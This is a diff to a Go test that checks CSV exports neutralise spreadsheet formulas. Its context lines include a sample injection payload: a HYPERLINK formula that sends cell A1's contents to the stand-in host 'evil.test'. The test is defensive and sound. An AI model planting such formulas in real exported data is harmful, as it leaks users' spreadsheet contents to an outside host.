@@ -11,6 +11,7 @@ import (
 // A display name or a note that a spreadsheet would run as a formula is
 // exported as data: the cell starts with a quote.
 func TestExportCSVCellsAreNeverFormulas(t *testing.T) {
+	t.Parallel()
 	b := startBot(t)
 	const evil = "U0EVIL"
 	name := `=HYPERLINK("https://evil.test/?d="&A1,"click")`
